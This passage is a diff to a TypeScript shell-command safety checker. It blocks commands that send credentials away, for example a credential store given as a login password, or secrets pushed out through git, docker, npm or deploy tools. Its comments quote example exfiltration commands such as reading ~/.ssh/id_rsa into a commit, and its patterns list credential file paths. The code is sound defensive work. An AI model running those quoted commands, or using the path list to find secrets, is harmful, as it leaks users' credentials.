-    // …unless what it is given is a whole credential store or a private key: that is no password, and it goes to whatever host is named.
-    const fed = [...inv.redirects.filter((r) => r.op === '<' && !r.target.dynamic).map((r) => r.target.text), ...inv.upstream.filter((u) => /^(cat|tac|head|tail)$/.test(u.argv[0])).flatMap((u) => u.argv.slice(1).filter((a) => !a.startsWith('-')))];
-    const store = inv.cwd === null ? undefined : fed.map((f) => resolveFrom(inv.cwd!, f.replace(/^~(?=\/|$)/, walk.env.home))).find((abs) => /\/(\.docker\/config\.json|\.aws\/(credentials|config)|\.netrc|\.git-credentials|\.kube\/config|\.npmrc|\.pypirc|\.ssh\/(?!known_hosts|config$)[^/]+|\.gnupg\/.+|\.config\/gh\/hosts\.yml)$/.test(abs) && !abs.endsWith('.pub'));
-    if (store) block(walk, 'dangerous', `${name} ${inv.argv[1] ?? ''} is given ${store} as a password: the whole credential store goes to the host it logs in to`, 'log in with the token meant for that service');
-  }
-  if (!sends) return;
-  // A credential given on stdin to log in with it (docker login --password-stdin, gh auth login --with-token) is used, not sent away.
-  if (inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin|password-file)$/.test(a)) || /^(login|auth)$/.test(inv.argv[1] ?? '')) {
-    return;
-  }
   const say = (what: string, how: string) =>
     block(walk, 'dangerous', `${name} sends ${what} elsewhere (${how}): secrets must not leave this machine`, 'never send credentials anywhere; if a service needs one, the user configures it');
+  if (!sends && !/^(login|auth)$/.test(inv.argv[1] ?? '')) return;
+  // A credential given on stdin to log in with it (docker login --password-stdin, gh auth login --with-token) is used, not sent away;
+  // a whole store of them (~/.docker/config.json, ~/.aws/credentials, a private key) is no password.
+  const store = inv.redirects.find((r) => r.op === '<' && inv.cwd !== null && /\/(\.docker\/config\.json|\.aws\/(credentials|config)|\.netrc|\.git-credentials|\.npmrc|\.pypirc|\.kube\/config|\.ssh\/[^/]+|\.gnupg\/.+)$/.test(resolveFrom(inv.cwd, r.target.text)));
+  if (store && inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin)$/.test(a))) return say(resolveFrom(inv.cwd!, store.target.text), 'as the password of a login to another service');
+  if (!sends || inv.argv.some((a) => /^--(password-stdin|with-token|token-stdin|password-file)$/.test(a)) || /^(login|auth)$/.test(inv.argv[1] ?? '')) return;
   for (const r of inv.redirects) {
     if ((r.op === '<' || r.op === '<>') && !r.target.dynamic && inv.cwd !== null && isSecret(walk, resolveFrom(inv.cwd, r.target.text))) return say(resolveFrom(inv.cwd, r.target.text), 'input redirection');
   }
@@ -3763,7 +3891,9 @@ function checkLine(walk: Walk): void {
   });
   // git commit/tag/notes -m "$(cat ~/.ssh/id_rsa)", docker build --build-arg K="$(cat key)", a secret copied into the
   // project: then pushed or published (git push, docker push, npm publish, twine upload…), the secret leaves with it.
-  const publishes = walk.out.find((i) => (i.argv[0] === 'git' && i.argv.includes('push')) || (/^(docker|podman|buildah)$/.test(i.argv[0]) && i.argv.includes('push')) || (/^(npm|pnpm|yarn)$/.test(i.argv[0]) && i.argv.includes('publish')) || (i.argv[0] === 'twine' && i.argv.includes('upload')) || (/^(gem|cargo|poetry|flit|hatch)$/.test(i.argv[0]) && /^(push|publish)$/.test(i.argv[1] ?? '')));
+  // vercel/netlify/firebase/wrangler… deploy (also through npx): the project's files go to a public host.
+  const deploys = (i: Invocation) => i.argv.slice(0, 3).some((a) => /^(vercel|netlify|netlify-cli|firebase|surge|wrangler|flyctl|fly|amplify|railway|gh-pages|now)$/.test(a)) && (i.argv.some((a) => /^(deploy|publish|up|--prod)$/.test(a)) || /^(surge|gh-pages)$/.test(i.argv[0]));
+  const publishes = walk.out.find((i) => deploys(i) || (i.argv[0] === 'git' && i.argv.includes('push')) || (/^(docker|podman|buildah)$/.test(i.argv[0]) && i.argv.includes('push')) || (/^(npm|pnpm|yarn)$/.test(i.argv[0]) && i.argv.includes('publish')) || (i.argv[0] === 'twine' && i.argv.includes('upload')) || (/^(gem|cargo|poetry|flit|hatch)$/.test(i.argv[0]) && /^(push|publish)$/.test(i.argv[1] ?? '')));
   if (publishes) {
     const carrier = walk.out.find((i) => i !== publishes && /^(git|docker|podman|buildah)$/.test(i.argv[0]) && i.words.some((w) => w.subs.some((sub) => subProducesSecret(walk, i, sub, 1) !== null)));
     const inProject = publishes.argv[0] !== 'git' && publishes.cwd !== null && [...walk.secretFiles].some((f) => isUnder(f, publishes.cwd!));
